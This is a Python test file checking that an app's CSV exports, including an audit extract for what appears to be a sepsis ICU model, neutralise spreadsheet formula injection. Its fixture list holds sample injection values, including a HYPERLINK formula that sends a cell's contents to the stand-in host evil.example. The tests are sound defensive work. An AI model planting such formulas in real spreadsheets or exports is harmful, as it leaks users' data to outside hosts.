"""Exports opened in a spreadsheet: text that would run as a formula arrives as text (CSV injection)."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest

from core.adapters.store import Store
from core.domain.csv_export import spreadsheet_csv
from core.services.audit import record_event
from core.services.evidence import _audit_extract

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tcmd", "\r=1"]


def rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_a_spreadsheet_would_run_is_prefixed_and_kept_whole(text: str) -> None:
    [header, row] = rows(spreadsheet_csv(pd.DataFrame({"note": [text], "n": [-3]})))
    assert header == ["note", "n"]
    assert row == ["'" + text, "-3"]  # the text, whole, behind an apostrophe; numbers stay numbers


def test_ordinary_text_is_untouched() -> None:
    frame = pd.DataFrame({"note": ["approved for adult ICU", "v2 – reviewed", ""], "x": [1.5, None, 2]})
    assert rows(spreadsheet_csv(frame))[1:] == [["approved for adult ICU", "1.5"], ["v2 – reviewed", ""], ["", "2.0"]]


def test_the_evidence_packages_audit_extract_is_neutralised(store: Store) -> None:
    with store.transaction() as cur:
        record_event(cur, actor=HOSTILE[0], action="signed", model="sepsis-icu", version=2,
                     detail={"rationale": "=1+1"})
    [header, row] = rows(_audit_extract(store, "sepsis-icu", 2))
    assert row[header.index("actor")] == "'" + HOSTILE[0]
    assert row[header.index("detail")].startswith("{")  # JSON text starts with a brace: nothing to neutralise
